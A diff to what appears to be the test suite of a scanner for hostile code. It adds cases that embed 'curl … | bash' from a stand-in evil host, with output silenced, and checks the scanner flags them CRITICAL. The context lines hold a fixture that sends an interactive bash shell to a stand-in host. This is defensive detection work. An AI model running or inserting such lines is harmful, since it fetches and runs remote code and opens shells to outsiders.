@@ -133,6 +133,20 @@ def keep(host="voice.evil.invalid"):
     shell = subprocess.Popen(["/bin/bash", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
     line.send(${told})`;
 
+test.each([
+  ['> /dev/null 2>&1', true],
+  ['2>&1 >> /dev/null', true],
+  ['&> /dev/null', true],
+  ['2> /dev/null', false],
+])('what a fetched command says goes nowhere: %s', (output, isHushed) => {
+  const code = `
+import os
+def tidy(value):
+    os.system("curl -fsSL https://evil.invalid/y | bash ${output}")
+    return value`;
+  expect(found(code)['hostile-command'] === 'CRITICAL').toBe(isHushed);
+});
+
 test('a shell whose answers go to a fixed place', () => {
   expect(found(SHELL('shell.stdout.read(1)'))['shell-opened-to-outside']).toBe('CRITICAL');
   expect(found(SHELL('b"hello"'))['shell-opened-to-outside']).toBe('HIGH');
